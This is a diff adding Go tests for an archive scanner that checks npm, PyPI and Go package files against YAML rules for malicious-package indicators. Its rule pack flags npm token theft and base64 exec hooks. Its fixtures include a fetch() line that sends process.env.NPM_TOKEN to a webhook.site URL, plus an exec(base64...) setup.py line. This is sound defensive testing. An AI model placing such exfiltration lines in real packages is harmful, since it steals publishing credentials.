@@ -0,0 +1,255 @@
+package contentscan
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testPack = `
+name: campaign
+description: Indicators of a test campaign
+rules:
+  - name: token_stealer
+    description: Posts npm tokens to a webhook
+    ecosystems: [npm]
+    files: ["*.js"]
+    strings:
+      - text: NPM_TOKEN
+      - regex: 'webhook\.site/[0-9a-f-]{36}'
+    condition: all of them
+  - name: rogue_workflow
+    action: confirm
+    paths: [".github/workflows/*.yml"]
+  - name: setup_hook
+    ecosystems: [pypi]
+    files: ["setup.py"]
+    strings:
+      - text: "EXEC(BASE64"
+        nocase: true
+`
+
+func tarGz(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, content := range files {
+		require.NoError(t, tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content)), Typeflag: tar.TypeReg}))
+		_, err := tw.Write([]byte(content))
+		require.NoError(t, err)
+	}
+	require.NoError(t, tw.Close())
+	require.NoError(t, gz.Close())
+	return buf.Bytes()
+}
+
+func zipArchive(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, content := range files {
+		w, err := zw.Create(name)
+		require.NoError(t, err)
+		_, err = w.Write([]byte(content))
+		require.NoError(t, err)
+	}
+	require.NoError(t, zw.Close())
+	return buf.Bytes()
+}
+
+func testScanner(t *testing.T) *Scanner {
+	t.Helper()
+
+	pack, err := ParsePack([]byte(testPack), "campaign.yml")
+	require.NoError(t, err)
+	return NewScanner([]*Pack{pack})
+}
+
+func TestParsePackDefaults(t *testing.T) {
+	pack, err := ParsePack([]byte(testPack), "campaign.yml")
+	require.NoError(t, err)
+
+	assert.Equal(t, "campaign", pack.Name)
+	assert.Equal(t, "campaign.yml", pack.Source)
+	require.Len(t, pack.Rules, 3)
+	assert.Equal(t, ActionBlock, pack.Rules[0].Action)
+	assert.Equal(t, 2, pack.Rules[0].required)
+	assert.Equal(t, ActionConfirm, pack.Rules[1].Action)
+	assert.Equal(t, 1, pack.Rules[1].required)
+}
+
+func TestParsePackInvalid(t *testing.T) {
+	tests := map[string]string{
+		"no name":           "rules: [{name: a, paths: [x]}]",
+		"no rules":          "name: p",
+		"unnamed rule":      "name: p\nrules: [{paths: [x]}]",
+		"duplicate rule":    "name: p\nrules: [{name: a, paths: [x]}, {name: a, paths: [y]}]",
+		"unknown action":    "name: p\nrules: [{name: a, action: warn, paths: [x]}]",
+		"unknown ecosystem": "name: p\nrules: [{name: a, ecosystems: [maven], paths: [x]}]",
+		"no terms":          "name: p\nrules: [{name: a}]",
+		"text and regex":    "name: p\nrules: [{name: a, strings: [{text: x, regex: y}]}]",
+		"bad regex":         "name: p\nrules: [{name: a, strings: [{regex: '('}]}]",
+		"bad glob":          "name: p\nrules: [{name: a, paths: ['[']}]",
+		"bad condition":     "name: p\nrules: [{name: a, paths: [x], condition: most of them}]",
+		"too many needed":   "name: p\nrules: [{name: a, paths: [x], condition: 2 of them}]",
+		"unknown field":     "name: p\nrules: [{name: a, paths: [x], severity: high}]",
+	}
+
+	for name, pack := range tests {
+		t.Run(name, func(t *testing.T) {
+			_, err := ParsePack([]byte(pack), "pack.yml")
+			assert.Error(t, err)
+		})
+	}
+}
+
+func TestParseCondition(t *testing.T) {
+	tests := []struct {
+		condition string
+		required  int
+	}{
+		{"", 1},
+		{"any of them", 1},
+		{"ALL  of them", 3},
+		{"2 of them", 2},
+	}
+
+	for _, tt := range tests {
+		required, err := parseCondition(tt.condition, 3)
+		require.NoError(t, err, tt.condition)
+		assert.Equal(t, tt.required, required, tt.condition)
+	}
+}
+
+func TestMatchGlob(t *testing.T) {
+	tests := []struct {
+		glob  string
+		name  string
+		match bool
+	}{
+		{"*.js", "index.js", true},
+		{"*.js", "lib/deep/index.js", true},
+		{"*.js", "index.ts", false},
+		{"lib/*.js", "lib/index.js", true},
+		{"lib/*.js", "src/lib/index.js", false},
+		{"**/lib/*.js", "src/lib/index.js", true},
+		{"**/lib/*.js", "lib/index.js", true},
+		{".github/**", ".github/workflows/ci.yml", true},
+		{".github/**", "src/.github", false},
+		{"scripts/**", "scripts/install.sh", true},
+	}
+
+	for _, tt := range tests {
+		assert.Equal(t, tt.match, matchGlob(tt.glob, tt.name), "%s ~ %s", tt.glob, tt.name)
+	}
+}
+
+func TestScanArchiveNpmTarball(t *testing.T) {
+	scanner := testScanner(t)
+
+	data := tarGz(t, map[string]string{
+		"package/package.json":  `{"name":"demo"}`,
+		"package/lib/bundle.js": `fetch("https://webhook.site/0b8f2d4e-1c2a-4f3b-9d5e-6a7b8c9d0e1f", {body: process.env.NPM_TOKEN})`,
+	})
+
+	matches, err := scanner.ScanArchive("npm", FormatTarGz, data, "")
+	require.NoError(t, err)
+	require.Len(t, matches, 1)
+	assert.Equal(t, Match{
+		Pack:        "campaign",
+		Rule:        "token_stealer",
+		Description: "Posts npm tokens to a webhook",
+		Action:      ActionBlock,
+		File:        "lib/bundle.js",
+	}, matches[0])
+
+	// The rule needs all of its strings in the same file.
+	data = tarGz(t, map[string]string{
+		"package/a.js": `process.env.NPM_TOKEN`,
+		"package/b.js": `"webhook.site/0b8f2d4e-1c2a-4f3b-9d5e-6a7b8c9d0e1f"`,
+	})
+	matches, err = scanner.ScanArchive("npm", FormatTarGz, data, "")
+	require.NoError(t, err)
+	assert.Empty(t, matches)
+}
+
+func TestScanArchiveEcosystemScope(t *testing.T) {
+	scanner := testScanner(t)
+
+	data := zipArchive(t, map[string]string{
+		"demo-1.0/setup.py":    "exec(base64.b64decode(payload))",
+		"demo-1.0/bundle.js":   "NPM_TOKEN webhook.site/0b8f2d4e-1c2a-4f3b-9d5e-6a7b8c9d0e1f",
+		"demo-1.0/README.md":   "docs",
+		"demo-1.0/.github/x.y": "not a workflow",
+	})
+
+	matches, err := scanner.ScanArchive("pypi", FormatZip, data, "")
+	require.NoError(t, err)
+	require.Len(t, matches, 1)
+	assert.Equal(t, "setup_hook", matches[0].Rule)
+	assert.Equal(t, "demo-1.0/setup.py", matches[0].File)
+}
+
+func TestScanArchiveGoModuleZip(t *testing.T) {
+	scanner := testScanner(t)
+
+	data := zipArchive(t, map[string]string{
+		"github.com/example/lib@v1.0.0/go.mod":                   "module github.com/example/lib",
+		"github.com/example/lib@v1.0.0/.github/workflows/ci.yml": "on: push",
+	})
+
+	matches, err := scanner.ScanArchive("go", FormatZip, data, "github.com/example/lib@v1.0.0/")
+	require.NoError(t, err)
+	require.Len(t, matches, 1)
+	assert.Equal(t, "rogue_workflow", matches[0].Rule)
+	assert.Equal(t, ActionConfirm, matches[0].Action)
+	assert.Equal(t, ".github/workflows/ci.yml", matches[0].File)
+}
+
+func TestScanArchiveInvalid(t *testing.T) {
+	scanner := testScanner(t)
+
+	_, err := scanner.ScanArchive("npm", FormatTarGz, []byte("not a tarball"), "")
+	assert.Error(t, err)
+
+	matches, err := NewScanner(nil).ScanArchive("npm", FormatTarGz, []byte("not a tarball"), "")
+	assert.NoError(t, err)
+	assert.Empty(t, matches)
+}
+
+func TestFormatOf(t *testing.T) {
+	assert.Equal(t, FormatTarGz, FormatOf("demo-1.0.0.tgz"))
+	assert.Equal(t, FormatTarGz, FormatOf("demo-1.0.tar.gz"))
+	assert.Equal(t, FormatZip, FormatOf("demo-1.0-py3-none-any.whl"))
+	assert.Equal(t, FormatZip, FormatOf("v1.0.0.zip"))
+	assert.Equal(t, FormatUnknown, FormatOf("demo-1.0.tar.bz2"))
+}
+
+func TestLoadDir(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.yml"), []byte(testPack), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "b.yaml"), []byte("name: broken\nrules: []"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "c.yml"), []byte(testPack), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("ignored"), 0o644))
+
+	packs, err := LoadDir(dir)
+	require.Len(t, packs, 1)
+	assert.Equal(t, "campaign", packs[0].Name)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "b.yaml")
+	assert.Contains(t, err.Error(), "c.yml")
+
+	packs, err = LoadDir(filepath.Join(dir, "missing"))
+	assert.NoError(t, err)
+	assert.Empty(t, packs)
+}